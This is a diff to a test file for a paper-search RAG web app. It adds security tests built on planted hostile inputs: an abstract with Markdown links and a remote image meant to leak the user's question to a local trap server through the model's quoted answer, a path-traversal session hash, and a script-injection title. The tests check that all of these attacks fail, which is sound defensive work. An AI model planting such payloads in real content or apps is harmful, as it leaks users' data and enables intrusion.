@@ -9,6 +9,7 @@ import os
 import shutil
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 from concurrent.futures import ThreadPoolExecutor
 
@@ -38,12 +39,56 @@ def llm():
         yield server
 
 
+class Trap:
+    """A local HTTP server that records every request: where planted links and images would lead."""
+
+    def __init__(self) -> None:
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        trap = self
+        self.requests: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                trap.requests.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        import threading
+
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
 @pytest.fixture(scope="module")
-def app(tmp_path_factory, llm):
+def trap():
+    server = Trap()
+    yield server
+    server.server.shutdown()
+
+
+def hostile_markdown(trap_url: str) -> dict:
+    """An abstract carrying Markdown a reader (or a model quoting it) would make live: a link, a remote image that
+    would send the question away, an autolink, raw HTML."""
+    return {"id": "evil-md", "title": "Quokka telemetry [click me](" + trap_url + "/phish-title)",
+            "decision": "Accept (Poster)", "url": "https://openreview.net/forum?id=evil-md",
+            "abstract": "We survey quokka telemetry collars on Rottnest Island. "
+                        f"Quokka telemetry survey data is at [the dataset]({trap_url}/phish) and "
+                        f"![z]({trap_url}/exfil.png?c=quokka) and {trap_url}/autolink for all. "
+                        "Collars last two seasons."}
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory, llm, trap):
     from ui.app import launch
 
     base = tmp_path_factory.mktemp("web")
-    (base / "evil.jsonl").write_text(json.dumps(EVIL) + "\n")
+    (base / "evil.jsonl").write_text(json.dumps(EVIL) + "\n" + json.dumps(hostile_markdown(trap.url)) + "\n")
     engine = Engine(Settings(data_dir=base / "index", port=free_port(), llm_model="fake-chat",
                              llm_base_url=llm.base_url, llm_timeout=3, llm_max_retries=0))
     engine.ingest([SEEDS, DATA / "papers_small.jsonl", base / "evil.jsonl"])
@@ -225,8 +270,116 @@ def test_login_is_required_when_rag_auth_is_set(tmp_path):
         assert status == 200 and answer["sources"][0]["title"].startswith("ProtComposer")
         bad = urllib.request.Request(base + "/login", data=b"username=reader&password=wrong",
                                      headers={"Content-Type": "application/x-www-form-urlencoded"})
-        with pytest.raises(urllib.error.HTTPError):
+        with pytest.raises(urllib.error.HTTPError) as refused:
             urllib.request.urlopen(bad, timeout=10)
+        assert refused.value.code == 400
+        for _ in range(4):  # five failures in a minute ...
+            with pytest.raises(urllib.error.HTTPError):
+                urllib.request.urlopen(bad, timeout=10)
+        with pytest.raises(urllib.error.HTTPError) as throttled:  # ... and even the right password waits
+            urllib.request.urlopen(login, timeout=10)
+        assert throttled.value.code == 429 and int(throttled.value.headers["Retry-After"]) > 0
     finally:
         demo.close()
 
+
+def test_rag_auth_without_a_password_is_refused_at_start():
+    from rag.config import ConfigError
+
+    for value in ("s3cret", ":s3cret", "reader:"):
+        with pytest.raises(ConfigError, match='RAG_AUTH: .*"user:password"'):
+            Settings.load(auth=value)
+
+
+def test_exports_of_old_sessions_and_gradio_cached_copies_are_removed(tmp_path):
+    from ui.app import EXPORT_MAX_AGE, _sweep, build
+
+    old, fresh = tmp_path / "old", tmp_path / "fresh"
+    for folder in (old, fresh):
+        folder.mkdir()
+        (folder / "conversation.md").write_text("x")
+    os.utime(old, (time.time() - EXPORT_MAX_AGE - 5,) * 2)
+    _sweep(tmp_path, EXPORT_MAX_AGE)
+    assert not old.exists() and fresh.exists()
+    engine = Engine(Settings(data_dir=tmp_path / "index"))
+    assert build(engine).delete_cache == (EXPORT_MAX_AGE // 2, EXPORT_MAX_AGE)
+
+
+
+def test_planted_links_and_images_stay_text_in_both_answer_modes(page, llm, trap):
+    """An abstract's `[x](url)` and `![x](url)` (quoted by the extractive answer, and repeated by the model) show
+    as text: no link to them, no image, and no request ever reaches the planted server."""
+    question = "Where is the quokka telemetry survey data?"
+    ask(page, question)  # LLM mode: the fake model quotes the abstract's sentence, markup and all
+    llm.mode = "500"
+    try:
+        ask(page, question, answers_before=1)  # the extractive answer that stands in
+    finally:
+        llm.mode = "normal"
+    bots = page.locator("#chat [data-testid=bot]")
+    assert "fake-chat (LLM)" in bots.nth(0).inner_text() and "extractive" in bots.nth(1).inner_text()
+    for i in range(2):
+        assert f"]({trap.url}/" in bots.nth(i).inner_text()  # the planted markup is shown as typed
+    hrefs = page.locator("#chat a, #sources a").evaluate_all("els => els.map(e => e.href)")
+    assert hrefs and not [h for h in hrefs if trap.url in h], hrefs
+    assert page.locator("#chat img, #sources img").count() == 0
+    time.sleep(1)
+    assert trap.requests == []
+
+
+def test_the_page_runs_only_its_own_scripts(app):
+    """A Content-Security-Policy with a fresh nonce on each of the page's own scripts, images only from the app."""
+    import re
+
+    first, second = (urllib.request.urlopen(app[0] + "/", timeout=10) for _ in range(2))
+    policy = first.headers["Content-Security-Policy"]
+    assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
+    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+    nonce = re.search(r"'nonce-([^']+)'", policy).group(1)
+    assert nonce not in second.headers["Content-Security-Policy"]
+    tags = re.findall(r"<script[^>]*>", first.read().decode())
+    assert tags and all(f'nonce="{nonce}"' in tag for tag in tags)
+
+
+def test_a_hostile_session_hash_cannot_choose_where_exports_are_written(app, tmp_path):
+    """The export folder is named by the server: a client's `session_hash` full of ../ writes nothing outside."""
+    base = app[0]
+    config = json.loads(urllib.request.urlopen(base + "/config", timeout=10).read())
+    fn = next(d for d in config["dependencies"] if d.get("api_name") == "stream_answer")
+    target = tmp_path / "owned"
+    hostile = "../" * 12 + str(target).lstrip("/")
+    body = {"data": ["zebra stripes and biting flies", [], [], [], "", 5, None], "fn_index": fn["id"],
+            "trigger_id": fn["targets"][0][0], "session_hash": hostile, "event_data": None}
+    request = urllib.request.Request(base + "/gradio_api/queue/join", data=json.dumps(body).encode(),
+                                     headers={"Content-Type": "application/json"})
+    assert urllib.request.urlopen(request, timeout=10).status == 200
+    stream = urllib.request.urlopen(f"{base}/gradio_api/queue/data?session_hash={urllib.parse.quote(hostile)}",
+                                    timeout=60).read().decode()
+    assert "process_completed" in stream and "conversation.md" in stream  # it answered and wrote its exports
+    assert not target.exists() and not any(tmp_path.iterdir())
+
+
+def test_the_markdown_export_renders_as_text_in_a_markdown_viewer(page, browser, trap):
+    """The export, rendered by a CommonMark viewer with raw HTML on, runs no script and loads and links nothing
+    planted in the papers."""
+    from markdown_it import MarkdownIt
+
+    ask(page, "zebra stripes and biting flies")
+    ask(page, "Where is the quokka telemetry survey data?", answers_before=1)
+    with page.expect_download() as download:
+        page.click("#export-md")
+    markdown = open(download.value.path(), encoding="utf-8").read()
+    assert "<script" not in markdown and "<img" not in markdown and "](http" not in markdown
+    viewer = browser.new_page()
+    try:
+        viewer.set_content(MarkdownIt("commonmark", {"html": True}).render(markdown))
+        text = viewer.inner_text("body")
+        assert "<script>window.__pwned = 1</script>Evil <b>bold</b> title" in text
+        assert f"![z]({trap.url}/exfil.png?c=quokka)" in text
+        assert viewer.evaluate("window.__pwned") is None and viewer.locator("img, script, b").count() == 0
+        hrefs = viewer.locator("a").evaluate_all("els => els.map(e => e.href)")
+        assert hrefs and all(h.startswith("https://openreview.net/") for h in hrefs), hrefs
+        time.sleep(0.5)
+        assert trap.requests == []
+    finally:
+        viewer.close()
